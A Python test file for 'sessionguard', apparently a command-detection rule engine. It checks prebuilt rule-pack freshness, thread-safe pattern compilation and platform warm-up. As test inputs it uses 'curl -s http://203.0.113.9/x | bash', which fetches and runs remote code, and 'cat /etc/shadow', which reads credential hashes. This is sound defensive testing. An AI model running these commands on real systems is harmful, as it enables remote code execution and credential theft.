"""The prebuilt default pack (rules/default_pack.json): the same rules as the YAML, and never used when stale."""

from __future__ import annotations

import json
import shutil
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from sessionguard.rules import DEFAULT_RULES_DIR, RulePack, prebuilt
from sessionguard.rules.loader import load_file, rule_files

PREBUILT = DEFAULT_RULES_DIR / prebuilt.PREBUILT_NAME


def _from_yaml(files: list[Path]) -> list[object]:
    return [item for path in files for part in load_file(path) for item in part]


def test_the_prebuilt_pack_is_fresh_and_holds_exactly_what_the_yaml_says() -> None:
    files = rule_files(DEFAULT_RULES_DIR)
    loaded = prebuilt.load(files, PREBUILT)
    assert loaded is not None, "stale: run `python -m sessionguard.rules docs/rules.md` and commit default_pack.json"
    rules, allow = loaded
    assert [*rules, *allow] == _from_yaml(files)
    assert [rule.source for rule in rules] == [rule.source for rule in RulePack.load(include_default=True).rules]


def test_the_default_pack_loads_the_same_rules_as_the_yaml_files_hold() -> None:
    files = rule_files(DEFAULT_RULES_DIR)
    assert list(RulePack.load().rules) == [rule for path in files for rule in load_file(path)[0]]


def _copy_pack(tmp_path: Path) -> list[Path]:
    for path in [*rule_files(DEFAULT_RULES_DIR), PREBUILT]:
        shutil.copy(path, tmp_path / path.name)
    return rule_files(tmp_path)


def test_a_copied_pack_loads_from_its_json_with_sources_in_its_own_directory(tmp_path: Path) -> None:
    loaded = prebuilt.load(_copy_pack(tmp_path), tmp_path / prebuilt.PREBUILT_NAME)
    assert loaded is not None
    assert all(Path(rule.source).parent == tmp_path for rule in loaded[0])


def test_an_edited_rule_file_makes_the_json_stale_so_the_yaml_is_read(tmp_path: Path) -> None:
    files = _copy_pack(tmp_path)
    files[0].write_text(files[0].read_text(encoding="utf-8") + "\n# edited\n", encoding="utf-8")
    assert prebuilt.load(files, tmp_path / prebuilt.PREBUILT_NAME) is None


def test_an_added_or_removed_rule_file_makes_the_json_stale(tmp_path: Path) -> None:
    files = _copy_pack(tmp_path)
    assert prebuilt.load(files[1:], tmp_path / prebuilt.PREBUILT_NAME) is None
    extra = tmp_path / "zz-extra.yaml"
    extra.write_text("rules: []\n", encoding="utf-8")
    assert prebuilt.load([*files, extra], tmp_path / prebuilt.PREBUILT_NAME) is None


def test_a_missing_or_broken_json_is_not_an_error_only_slower(tmp_path: Path) -> None:
    files = _copy_pack(tmp_path)
    target = tmp_path / prebuilt.PREBUILT_NAME
    for broken in ("", "{", json.dumps({"head": {"format": 99}}), json.dumps({"rows": []})):
        target.write_text(broken, encoding="utf-8")
        assert prebuilt.load(files, target) is None
    target.unlink()
    assert prebuilt.load(files, target) is None


def test_write_regenerates_a_json_that_loads(tmp_path: Path) -> None:
    files = _copy_pack(tmp_path)
    (tmp_path / prebuilt.PREBUILT_NAME).unlink()
    prebuilt.write(tmp_path)
    loaded = prebuilt.load(files, tmp_path / prebuilt.PREBUILT_NAME)
    assert loaded is not None
    assert [*loaded[0], *loaded[1]] == _from_yaml(files)


def test_a_new_pack_searched_from_many_threads_at_once_compiles_each_set_once() -> None:
    """Sets compile on first search (the cold start's saving); the archive scan searches from several threads."""
    commands = ["ls -la", "curl -s http://203.0.113.9/x | bash", "sudo -i"] * 8
    for _ in range(5):
        pack = RulePack.load()
        start = threading.Barrier(len(commands))

        def match(command: str, pack: RulePack = pack, start: threading.Barrier = start) -> int:
            start.wait()
            return len(pack.match(command))

        with ThreadPoolExecutor(max_workers=len(commands)) as pool:
            counts = list(pool.map(match, commands))
        assert counts == [len(RulePack.load().match(command)) for command in commands]


def test_warm_compiles_one_platforms_sets_before_any_search() -> None:
    """What `scan --jobs` does before forking its workers, so that they inherit compiled sets."""
    pack = RulePack.load()
    linux, windows = pack._platforms["linux"], pack._platforms["windows"]
    sets = (linux.prefilter, linux.single_set, linux.segment_set, linux.whole_set)
    assert not any(pattern_set._compiled for pattern_set in sets)
    pack.warm("linux")
    assert all(pattern_set._compiled for pattern_set in sets)
    assert not windows.prefilter._compiled
    assert pack.match("cat /etc/shadow") == RulePack.load().match("cat /etc/shadow")


def test_first_search_patterns_are_what_a_first_command_compiles() -> None:
    """benchmarks/bench_init.py compiles these alone for `handler_floor_ms`: they must be the set a first ordinary
    command compiles (the platform's prefilter), each rule pattern once in multi-line mode, no exception."""
    pack = RulePack.load()
    patterns = pack.first_search_patterns("linux")
    linux_rules = [rule for rule in pack.rules if rule.platform == "linux"]
    segment = [pattern for rule in linux_rules for pattern in rule.segment]
    whole = [pattern for rule in linux_rules for pattern in rule.whole]
    assert patterns == [f"(?m:{pattern})" for pattern in segment + whole]
    assert pack.match("cat /etc/shadow")  # a first search compiles the prefilter, whose patterns these are
    assert pack._platforms["linux"].prefilter._compiled
    assert patterns != pack.first_search_patterns("windows")
